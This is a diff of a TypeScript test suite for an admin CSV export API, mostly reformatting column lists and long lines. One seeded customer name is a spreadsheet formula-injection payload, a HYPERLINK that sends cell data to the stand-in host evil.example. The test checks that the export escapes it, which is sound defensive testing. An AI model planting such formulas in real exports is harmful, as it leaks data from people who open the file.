@@ -77,14 +77,49 @@ describe('CSV exports API', () => {
   }
 
   const ORDER_COLUMNS = [
-    'order_id', 'created_at', 'paid_at', 'payment_status', 'void_reason', 'failure_reason', 'customer_name', 'customer_email', 'user_id',
-    'platform', 'plan', 'tier', 'currency', 'amount', 'refunded', 'refund_pending', 'refund_failed', 'refunds', 'last_refund_at',
-    'refund_request', 'payment_id', 'subscription_id', 'order_status', 'fulfilment_state', 'upstream_order_id', 'upstream_status',
-    'upstream_charge', 'upstream_currency',
+    'order_id',
+    'created_at',
+    'paid_at',
+    'payment_status',
+    'void_reason',
+    'failure_reason',
+    'customer_name',
+    'customer_email',
+    'user_id',
+    'platform',
+    'plan',
+    'tier',
+    'currency',
+    'amount',
+    'refunded',
+    'refund_pending',
+    'refund_failed',
+    'refunds',
+    'last_refund_at',
+    'refund_request',
+    'payment_id',
+    'subscription_id',
+    'order_status',
+    'fulfilment_state',
+    'upstream_order_id',
+    'upstream_status',
+    'upstream_charge',
+    'upstream_currency',
   ];
   const CUSTOMER_COLUMNS = [
-    'user_id', 'name', 'email', 'phone', 'country', 'registered_at', 'email_verified_at', 'orders', 'paid_orders', 'first_paid_at',
-    'last_paid_at', 'paid', 'refunded',
+    'user_id',
+    'name',
+    'email',
+    'phone',
+    'country',
+    'registered_at',
+    'email_verified_at',
+    'orders',
+    'paid_orders',
+    'first_paid_at',
+    'last_paid_at',
+    'paid',
+    'refunded',
   ];
 
   let paid: { orderId: string; subscriptionId: string };
@@ -97,7 +132,9 @@ describe('CSV exports API', () => {
     await db().query(`UPDATE plans SET currency = 'INR' WHERE slug = 'instagram'`);
     // Names as a hostile customer might type them, and one with accents, quotes and a comma.
     await db().query(`UPDATE users SET name = '=HYPERLINK("http://evil.example/?"&A1,"Click")', created_at = '2026-02-01T10:00:00Z' WHERE user_id = $1`, [ann.userId]);
-    await db().query(`UPDATE users SET name = 'Zoë "Jr" Ångström, Esq.', phone = '+91 98765 43210', created_at = '2026-02-02T10:00:00Z' WHERE user_id = $1`, [bob.userId]);
+    await db().query(`UPDATE users SET name = 'Zoë "Jr" Ångström, Esq.', phone = '+91 98765 43210', created_at = '2026-02-02T10:00:00Z' WHERE user_id = $1`, [
+      bob.userId,
+    ]);
     paid = await buy(t, ann, 'youtube', 1);
     rupees = await buy(t, bob, 'instagram', 0);
     await buy(t, bob, 'tiktok', 2);
@@ -186,7 +223,8 @@ describe('CSV exports API', () => {
 
   it('filters by status, platform and a search, alone and together', async () => {
     const count = async (where: string, params: unknown[] = []) =>
-      (await db().query(`SELECT count(*)::int AS n FROM payment_orders WHERE created_at >= '2026-01-01Z' AND created_at < '2027-01-01Z' AND ${where}`, params))[0].n as number;
+      (await db().query(`SELECT count(*)::int AS n FROM payment_orders WHERE created_at >= '2026-01-01Z' AND created_at < '2027-01-01Z' AND ${where}`, params))[0]
+        .n as number;
     const rows = async (query: string) => (await csv(`/api/admin/export/orders.csv?from=2026-01-01&to=2026-12-31&${query}`)).rows.length;
     expect(await rows('status=failed')).toBe(await count(`status = 'failed'`));
     expect(await rows('platform=instagram')).toBe(await count(`plan_slug = 'instagram'`));
@@ -201,9 +239,19 @@ describe('CSV exports API', () => {
     expect(res.headers['content-disposition']).toBe('attachment; filename="customers_2026-02-01_2026-02-28.csv"');
     expect(header).toEqual(CUSTOMER_COLUMNS);
     expect(records.map((r) => r.email)).toEqual([ann.email, bob.email]);
-    const paidByBob = await db().query(`SELECT currency, sum(amount)::int AS paid FROM payment_orders WHERE user_id = $1 AND status = 'paid' GROUP BY currency ORDER BY currency`, [bob.userId]);
+    const paidByBob = await db().query(
+      `SELECT currency, sum(amount)::int AS paid FROM payment_orders WHERE user_id = $1 AND status = 'paid' GROUP BY currency ORDER BY currency`,
+      [bob.userId],
+    );
     const bobRow = records[1];
-    expect(bobRow).toMatchObject({ name: 'Zoë "Jr" Ångström, Esq.', phone: `'+91 98765 43210`, orders: '2', paid_orders: '2', registered_at: '2026-02-02 10:00:00', refunded: '' });
+    expect(bobRow).toMatchObject({
+      name: 'Zoë "Jr" Ångström, Esq.',
+      phone: `'+91 98765 43210`,
+      orders: '2',
+      paid_orders: '2',
+      registered_at: '2026-02-02 10:00:00',
+      refunded: '',
+    });
     expect(bobRow.paid).toBe(paidByBob.map((p: { currency: string; paid: number }) => `${p.currency} ${(p.paid / 100).toFixed(2)}`).join('; '));
     expect(paidByBob.map((p: { currency: string }) => p.currency)).toEqual(['INR', 'USD']);
     expect(records[0]).toMatchObject({ name: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, refunded: 'USD 5.00' });
@@ -228,7 +276,10 @@ describe('CSV exports API', () => {
       const { port } = server.address() as AddressInfo;
       let req: http.ClientRequest | undefined;
       const res = await new Promise<http.IncomingMessage>((resolve, reject) => {
-        req = http.get({ port, host: '127.0.0.1', path: '/api/admin/export/orders.csv?from=2027-06-01&to=2027-06-30', headers: { Authorization: `Bearer ${admin}` } }, resolve);
+        req = http.get(
+          { port, host: '127.0.0.1', path: '/api/admin/export/orders.csv?from=2027-06-01&to=2027-06-30', headers: { Authorization: `Bearer ${admin}` } },
+          resolve,
+        );
         req.on('error', (error) => ((error as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(error)));
       });
       expect(res.statusCode).toBe(200);
